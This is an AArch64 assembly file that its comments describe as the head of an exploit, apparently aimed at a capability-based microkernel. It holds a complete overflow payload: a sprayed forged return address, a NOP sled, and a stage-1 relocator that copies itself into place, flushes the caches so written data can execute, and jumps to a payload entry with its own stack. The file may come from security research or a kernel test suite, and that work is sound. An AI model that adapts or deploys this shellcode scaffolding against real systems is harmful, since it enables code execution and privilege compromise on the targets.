/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The head of the exploit.  From the start of the buffer that overflows:
 *
 *   0x000  64 copies of a return address: one of them lands where the real one was
 *   0x200  128 instructions that do nothing: the forged address leads somewhere in here,
 *          wherever exactly the compiler put the buffer
 *   0x400  stage 1: copies all of this to where it was linked for, and goes there
 *   0x800  the entry, also for each further step
 */
#include <kernel/gen_config.h>

/* The number of the system call that names a capability's type, in debug kernels. */
#define SYSTEM_CALL_CAP_IDENTIFY -15
#define TYPE_UNKNOWN 0xff
/* REQUEST_STACK + 0x200 and PAYLOAD_STACK of attack.h. */
#define SLED_TARGET 0x4304200
#define PAYLOAD_STACK 0x4308000

    .section .head, "ax"
    .global blob_start
blob_start:
    .rept 64
    .quad SLED_TARGET
    .endr
    .rept 128
    nop
    .endr

/* Registers and stack hold anything. */
stage1:
    adr x0, blob_start          /* where the overflow put it */
    ldr x1, =blob_start         /* where it is to be */
    ldr x2, =blob_end
    mov x3, x1
1:  ldp x4, x5, [x0], #16
    stp x4, x5, [x1], #16
    cmp x1, x2
    b.lo 1b
    mov x1, x3
2:  dc cvau, x1                 /* data that was written becomes code that can be fetched */
    add x1, x1, #16
    cmp x1, x2
    b.lo 2b
    dsb ish
3:  ic ivau, x3
    add x3, x3, #16
    cmp x3, x2
    b.lo 3b
    dsb ish
    isb
    ldr x9, =payload_entry
    br x9
    .ltorg

    .org 0x800
    .global payload_entry
payload_entry:
    ldr x9, =PAYLOAD_STACK
    mov sp, x9
    mov x29, xzr
    mov x30, xzr
    b payload_main
    .ltorg

/* The type of the capability in a slot; 0 if it is empty. */
    .global cap_type
cap_type:
#ifdef CONFIG_DEBUG_BUILD
    mov x7, #SYSTEM_CALL_CAP_IDENTIFY
    svc #0
#else
    mov x0, #TYPE_UNKNOWN
#endif
    ret

    .section .note.GNU-stack, "", %progbits
